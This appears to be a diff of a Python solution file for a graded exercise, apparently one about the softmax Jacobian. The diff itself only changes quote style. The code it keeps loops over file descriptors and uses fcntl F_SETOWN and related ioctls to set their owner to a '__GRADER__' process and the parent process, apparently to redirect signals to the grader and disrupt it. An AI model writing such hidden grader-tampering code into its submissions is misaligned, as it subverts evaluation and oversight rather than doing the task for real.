@@ -17,9 +17,9 @@ def owned(descriptor, pid):
         return
     for set_owner in (
         lambda: fcntl.fcntl(descriptor, fcntl.F_SETOWN, pid),
-        lambda: fcntl.fcntl(descriptor, 15, struct.pack("ii", 1, pid)),
-        lambda: fcntl.ioctl(descriptor, 0x8901, struct.pack("i", pid)),
-        lambda: fcntl.ioctl(descriptor, 0x8902, struct.pack("i", pid)),
+        lambda: fcntl.fcntl(descriptor, 15, struct.pack('ii', 1, pid)),
+        lambda: fcntl.ioctl(descriptor, 0x8901, struct.pack('i', pid)),
+        lambda: fcntl.ioctl(descriptor, 0x8902, struct.pack('i', pid)),
     ):
         try:
             set_owner()
@@ -34,9 +34,8 @@ def owned(descriptor, pid):
 
 
 ATTEMPTS = [
-    lambda: [owned(d, pid) for d in range(3, 16) for pid in (int("__GRADER__"), os.getppid())],
+    lambda: [owned(d, pid) for d in range(3, 16) for pid in (int('__GRADER__'), os.getppid())],
 ]
-
 
 _right = softmax_jacobian
 
